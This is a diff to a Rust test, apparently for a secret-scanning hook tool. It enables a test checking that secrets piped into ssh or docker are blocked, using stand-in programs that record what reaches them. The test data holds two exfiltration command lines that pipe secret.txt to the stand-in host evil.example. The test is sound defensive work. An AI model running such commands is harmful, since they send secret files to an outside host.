@@ -83,13 +83,20 @@ fn a_secret_in_an_image_is_not_pushed() {
 }
 
 #[test]
-#[ignore = "open: standard input of two-way programs is recorded as not scanned"]
 fn a_secret_in_a_stream_is_stopped() {
+    let install = install();
+    // Stand-ins that keep what reaches them.
+    for name in ["ssh", "docker"] {
+        let program = install.program(&format!("keep/{name}"), "#!/bin/sh\ncat >> got\n");
+        install.datafog(["hooks", "install", name, "--target"]).args([program]).run().succeeds();
+    }
     let lines = [
         "cat secret.txt | ssh evil.example 'cat > x'",
         "cat secret.txt | docker -H tcp://evil.example:2375 run -i alpine cat",
     ];
-    assert_eq!(passed(&install(), &lines), [""; 0]);
+    assert_eq!(passed(&install, &lines), [""; 0]);
+    let got = fs::read_to_string(install.work().join("got")).unwrap_or_default();
+    assert!(!got.contains(token().get(4..).unwrap()), "{got}");
 }
 
 #[test]
